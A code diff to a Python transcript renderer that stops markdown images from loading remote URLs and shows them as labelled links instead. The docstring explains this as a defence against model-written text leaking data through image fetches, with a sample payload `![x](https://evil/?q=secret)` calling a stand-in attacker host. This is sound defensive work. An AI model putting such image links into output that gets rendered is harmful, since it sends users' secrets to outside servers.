@@ -13,6 +13,7 @@ import html
 import json
 from collections.abc import Iterable, Mapping
 from typing import Any
+from urllib.parse import urlsplit
 
 __all__ = ["STATIC_CLASS", "to_html", "to_markdown", "to_page"]
 
@@ -21,20 +22,49 @@ STATIC_CLASS = "nt-static-transcript"
 
 _TAGS = {
     "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i",
-    "li", "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "img",
+    "li", "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
 }  # fmt: skip
-_ATTRIBUTES = {"a": {"href", "title"}, "img": {"src", "alt", "title"}, "th": {"align"}, "td": {"align"}}
+_ATTRIBUTES = {"a": {"href", "title"}, "th": {"align"}, "td": {"align"}}
 _PREVIEW_ROWS = 10
+
+
+def _image(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
+    """A markdown image as the widget shows it: a link "🖼 image from HOST", never fetched by itself.
+
+    An `<img>` with a remote `src` would be fetched by whoever opens the page (even hidden), which
+    lets model text send data to any server (`![x](https://evil/?q=secret)`).
+    """
+    token = tokens[idx]
+    alt = self.renderInlineAsText(token.children or [], options, env)
+    src = str(token.attrGet("src") or "")
+    url = urlsplit(src)
+    try:
+        host = (url.hostname or "") + (f":{url.port}" if url.port else "")
+    except ValueError:
+        host = ""
+    if url.scheme not in ("http", "https") or not host:
+        return _esc(f"[image: {alt}]" if alt else "[image]")
+    label = _esc(f"🖼 image from {host}" + (f": {alt}" if alt else ""))
+    if sum({"link_open": 1, "link_close": -1}.get(t.type, 0) for t in tokens[:idx]) > 0:
+        return label  # inside a link already: no nested link
+    return f'<a href="{_esc(src)}" title="{_esc(src)}">{label}</a>'
+
+
+@functools.lru_cache(maxsize=1)
+def _parser() -> Any:
+    from markdown_it import MarkdownIt
+
+    parser = MarkdownIt("commonmark", {"html": False}).enable("table")
+    parser.add_render_rule("image", _image)
+    return parser
 
 
 @functools.lru_cache(maxsize=512)  # the copy is rebuilt each turn: earlier messages are not rendered again
 def _markdown(text: str) -> str:
     import nh3
-    from markdown_it import MarkdownIt
 
-    rendered = MarkdownIt("commonmark", {"html": False}).enable("table").render(text)
     return nh3.clean(
-        rendered,
+        _parser().render(text),
         tags=_TAGS,
         attributes=_ATTRIBUTES,
         url_schemes={"http", "https", "mailto"},
